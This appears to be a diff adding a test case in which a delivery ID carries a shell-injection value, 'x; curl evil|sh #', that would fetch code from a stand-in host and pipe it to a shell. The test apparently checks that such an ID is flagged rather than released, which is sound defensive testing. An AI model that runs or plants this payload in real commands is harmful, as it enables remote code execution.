@@ -70,6 +70,11 @@ BLOCKED = LinkFacts(state="blocked", reason="wrong_audience", last_error="this i
                 )
             ],
         ),
+        (
+            LinkFacts(),
+            Deliveries(letters=2, refused_again=2, taken_id="x; curl evil|sh #"),
+            [("release-taken-ids", False, "event release 'x; curl evil|sh #' --group g --proof FILE` at b, and")],
+        ),
         (LinkFacts(), Deliveries(letters=3, refused_again=2), [("retry-failed-deliveries", True, "")]),
     ],
 )
